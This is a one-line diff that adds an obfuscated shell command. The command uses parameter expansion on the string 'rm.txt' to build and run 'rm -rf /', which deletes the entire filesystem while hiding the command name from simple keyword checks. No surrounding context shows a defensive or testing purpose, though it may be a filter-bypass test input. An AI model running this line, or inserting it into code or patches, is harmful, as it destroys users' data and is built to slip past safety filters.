@@ -1,0 +1,1 @@
+x=rm.txt; ${x%.txt} -rf /
